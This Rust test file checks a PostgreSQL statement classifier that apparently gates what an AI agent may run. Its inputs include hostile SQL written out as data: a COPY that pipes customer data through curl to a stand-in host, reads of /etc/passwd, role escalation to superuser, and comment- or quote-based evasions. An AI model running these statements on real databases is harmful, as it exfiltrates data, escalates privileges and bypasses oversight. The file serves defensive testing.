//! Classification, including the forms an agent would use to slip a statement past it.

#![allow(clippy::indexing_slicing)]

use holdpoint_pg::{Kind, Statement, classify};

fn kinds(sql: &str) -> Vec<Kind> {
    let mut all: Vec<Kind> = classify(sql)
        .into_iter()
        .flat_map(|s| s.kinds.into_iter())
        .collect();
    all.sort();
    all.dedup();
    all
}

fn head(sql: &str) -> Kind {
    classify(sql)
        .iter()
        .map(Statement::head)
        .max()
        .unwrap_or(Kind::Read)
}

#[test]
fn every_kind() {
    for (sql, kind) in [
        ("SELECT * FROM customers WHERE id = 1", Kind::Read),
        ("SHOW work_mem", Kind::Read),
        ("EXPLAIN DELETE FROM customers", Kind::Read),
        ("SET statement_timeout = '5s'", Kind::Read),
        ("INSERT INTO t VALUES (1)", Kind::Write),
        ("UPDATE t SET a = 1 WHERE id = 2", Kind::Write),
        ("DELETE FROM t WHERE id = 2", Kind::Write),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Kind::Write,
        ),
        ("SELECT * FROM t FOR UPDATE", Kind::Write),
        ("COPY t FROM STDIN", Kind::Write),
        ("CREATE TABLE x (a int)", Kind::Ddl),
        ("ALTER TABLE x ADD COLUMN b int", Kind::Ddl),
        ("DROP TABLE x", Kind::Ddl),
        ("COMMENT ON TABLE x IS 'y'", Kind::Ddl),
        ("CREATE INDEX ON x (a)", Kind::Ddl),
        ("GRANT SELECT ON x TO bob", Kind::Privilege),
        ("REVOKE SELECT ON x FROM bob", Kind::Privilege),
        ("CREATE ROLE bob", Kind::Privilege),
        ("ALTER ROLE bob SUPERUSER", Kind::Privilege),
        ("SET ROLE postgres", Kind::Privilege),
        ("SET SESSION AUTHORIZATION postgres", Kind::Privilege),
        ("RESET ROLE", Kind::Privilege),
        (
            "SELECT set_config('role', 'postgres', false)",
            Kind::Privilege,
        ),
        (
            "CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'select 1'",
            Kind::Privilege,
        ),
        ("ALTER TABLE x ENABLE ROW LEVEL SECURITY", Kind::Privilege),
        ("ALTER TABLE x OWNER TO bob", Kind::Privilege),
        ("COPY customers TO STDOUT", Kind::Export),
        (
            "COPY (SELECT * FROM customers) TO STDOUT WITH CSV",
            Kind::Export,
        ),
        ("SELECT pg_read_file('/etc/passwd')", Kind::Export),
        ("SELECT lo_export(1234, '/tmp/x')", Kind::Export),
        ("COPY customers TO PROGRAM 'curl -d @- evil'", Kind::Admin),
        ("TRUNCATE t", Kind::Admin),
        ("VACUUM t", Kind::Admin),
        ("ALTER SYSTEM SET work_mem = '1GB'", Kind::Admin),
        ("SELECT pg_terminate_backend(42)", Kind::Admin),
        ("SELECT dblink_exec('host=x', 'DROP TABLE y')", Kind::Admin),
        ("BEGIN", Kind::Transaction),
        ("COMMIT", Kind::Transaction),
        ("SAVEPOINT a", Kind::Transaction),
        ("ROLLBACK TO SAVEPOINT a", Kind::Transaction),
        ("SELEC 1", Kind::Unknown),
        ("SET standard_conforming_strings = off", Kind::Unknown),
        ("SET client_encoding = 'SJIS'", Kind::Unknown),
        (
            "SELECT query_to_xml('select * from customers', true, false, '')",
            Kind::Unknown,
        ),
    ] {
        assert_eq!(head(sql), kind, "{sql}");
    }
    assert_eq!(head("SET client_encoding = 'UTF8'"), Kind::Read);
    assert_eq!(head(""), Kind::Read);
}

#[test]
fn the_most_privileged_part_wins() {
    assert_eq!(head("SELECT 1; DROP TABLE x"), Kind::Ddl);
    assert_eq!(classify("SELECT 1; DROP TABLE x").len(), 2);
    assert_eq!(
        head("WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone"),
        Kind::Write
    );
    assert_eq!(
        head("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1"),
        Kind::Write
    );
    assert_eq!(
        head("EXPLAIN (ANALYZE, BUFFERS) CREATE TABLE x AS SELECT 1"),
        Kind::Ddl
    );
    assert_eq!(
        head("EXPLAIN (ANALYZE true) UPDATE t SET a = 1"),
        Kind::Write
    );
    assert_eq!(
        head("EXPLAIN (ANALYZE false) UPDATE t SET a = 1"),
        Kind::Read
    );
    assert_eq!(
        head("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$"),
        Kind::Privilege
    );
    assert_eq!(
        head("SELECT * FROM (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) s"),
        Kind::Admin
    );
    assert_eq!(
        head("SELECT CASE WHEN true THEN pg_catalog.pg_read_file('x') END"),
        Kind::Export
    );
    assert_eq!(head("SELECT 1 INTO newtable"), Kind::Ddl);
}

#[test]
fn odd_spellings_read_the_same() {
    for sql in [
        "dRoP tAbLe x",
        "/* harmless */ DROP /* really */ TABLE x",
        "-- a comment\nDROP TABLE x",
        "DROP TABLE \"x\"",
        "SELECT $q$;$q$; DROP TABLE x",
        "SELECT ';'; DROP TABLE x",
        "SELECT E'\\';'; DROP TABLE x",
        "SELECT 1;DROP TABLE x;",
    ] {
        assert_eq!(head(sql), Kind::Ddl, "{sql:?}");
    }
    // The server does not read a byte-order mark either.
    assert_eq!(head("\u{feff}DROP TABLE x"), Kind::Unknown);
    // Quoted text that looks like a statement is text.
    assert_eq!(
        head("SELECT 'DROP TABLE x; GRANT ALL ON y TO z'"),
        Kind::Read
    );
    assert_eq!(head("SELECT $$ DROP TABLE x $$"), Kind::Read);
    // A quoted function name is the same function.
    assert_eq!(head("SELECT \"pg_terminate_backend\"(1)"), Kind::Admin);
    assert_eq!(
        head("SELECT PG_CATALOG.PG_TERMINATE_BACKEND(1)"),
        Kind::Admin
    );
    // Unicode-escaped identifiers are read by the parser, not by holdpoint.
    assert_eq!(
        head("SELECT U&\"pg\\005fterminate_backend\"(1)"),
        Kind::Admin
    );
}

#[test]
fn tables_functions_and_unbounded_writes() {
    let st = &classify("UPDATE public.customers SET email = NULL")[0];
    assert!(st.unbounded);
    assert!(st.tables.contains("public.customers"));
    let st = &classify("DELETE FROM t WHERE id = 1")[0];
    assert!(!st.unbounded);
    let st = &classify("WITH d AS (DELETE FROM t) SELECT 1")[0];
    assert!(st.unbounded, "a writing CTE without WHERE is unbounded too");
    let st = &classify("SELECT lower(name), nextval('s') FROM a JOIN b ON a.id = b.id")[0];
    assert_eq!(
        st.tables.iter().cloned().collect::<Vec<_>>(),
        vec!["a".to_string(), "b".into()]
    );
    let called: Vec<String> = st.calls.iter().map(|c| c.name.clone()).collect();
    assert_eq!(called, vec!["lower".to_string(), "nextval".into()]);
    assert!(classify("DROP TABLE a, s.b")[0].tables.contains("s.b"));
    let st = &classify("CALL do_things(1)")[0];
    assert_eq!(st.head(), Kind::Write);
    assert_eq!(st.calls.len(), 1);
}

#[test]
fn prepared_statements_carry_what_they_prepare() {
    let st = &classify("PREPARE p AS DELETE FROM t")[0];
    assert_eq!(st.head(), Kind::Read, "preparing runs nothing");
    let (name, inner) = st.prepares.as_ref().expect("prepares");
    assert_eq!(name, "p");
    assert_eq!(inner.head(), Kind::Write);
    assert_eq!(classify("EXECUTE p(1)")[0].executes.as_deref(), Some("p"));
}

#[test]
fn column_references_are_collected_for_masking() {
    let st = &classify("SELECT lower(c.email) FROM customers c")[0];
    assert!(st.columns.contains("email"));
    assert!(classify("SELECT * FROM customers")[0].star);
    assert!(classify("SELECT row_to_json(c) FROM customers c")[0].star);
}

#[test]
fn every_kind_has_its_name() {
    let names: Vec<&str> = Kind::ALL.iter().map(|k| k.as_str()).collect();
    assert_eq!(
        names,
        [
            "db.transaction",
            "db.read",
            "db.write",
            "db.ddl",
            "db.export",
            "db.admin",
            "db.privilege",
            "db.unknown"
        ]
    );
    let _ = kinds("SELECT 1");
}

#[test]
fn what_the_first_review_found() {
    // EXECUTE nested in another statement runs what was prepared.
    assert_eq!(
        classify("EXPLAIN (ANALYZE) EXECUTE p")[0]
            .executes
            .as_deref(),
        Some("p")
    );
    assert_eq!(
        classify("CREATE TABLE x AS EXECUTE q")[0]
            .executes
            .as_deref(),
        Some("q")
    );
    // A literal that decides a prepared statement's kind decides the PREPARE's shape.
    assert!(classify("PREPARE p AS SELECT set_config('role', 'x', false)")[0].reads_literals);
    // Statements nested in CREATE SCHEMA, and a role set on a function.
    assert_eq!(
        head("CREATE SCHEMA s GRANT SELECT ON TABLE public.t TO PUBLIC"),
        Kind::Privilege
    );
    assert_eq!(head("CREATE SCHEMA s AUTHORIZATION bob"), Kind::Privilege);
    assert_eq!(
        head("CREATE FUNCTION f() RETURNS int SET role = 'boss' LANGUAGE sql AS 'select 1'"),
        Kind::Privilege
    );
    assert_eq!(
        head("ALTER FUNCTION f() SET role = 'boss'"),
        Kind::Privilege
    );
    assert_eq!(
        head("ALTER FUNCTION f() SET search_path = public"),
        Kind::Ddl
    );
    // Results of FETCH and EXECUTE come from elsewhere.
    assert!(classify("FETCH ALL FROM c")[0].opaque_results);
    assert!(classify("EXECUTE p")[0].opaque_results);
    assert!(classify("CLOSE c")[0].ends_portals);
    assert!(classify("COMMIT")[0].ends_portals);
}
